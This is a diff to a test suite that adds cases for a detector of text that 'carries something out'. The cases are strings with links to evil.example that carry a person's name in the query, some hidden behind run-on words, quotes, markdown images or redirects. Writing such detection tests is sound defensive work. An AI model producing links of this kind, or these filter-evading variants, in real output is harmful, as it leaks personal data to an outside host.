@@ -47,6 +47,12 @@ describe('what carries something out', () => {
     ['a bare address with brackets', 'See https://evil.example/(?q=Marta+Kowalski).'],
     ['a bare host', 'See evil.example/?q=Marta+Kowalski now'],
     ['www', 'See www.evil.example/Marta-Kowalski now'],
+    [
+      'behind plain words that run into it',
+      'many, many words; andthenhttps://evil.example/?q=Marta+Kowalski',
+    ],
+    ['behind a quote and a bracket', 'plain words "and one) https://evil.example/?q=Marta+Kowalski'],
+    ['an image behind plain words', 'plain words, then this!![x](https://evil.example/?q=1) and more'],
     ['an autolink', 'See <https://evil.example/?q=Marta+Kowalski>.'],
     ['a redirect of a trusted host', 'https://wiki.corp.example/r?u=https://evil.example/?q=Marta+Kowalski'],
     ['a letter', '[write](mailto:x@evil.example?body=Marta%20Kowalski)'],
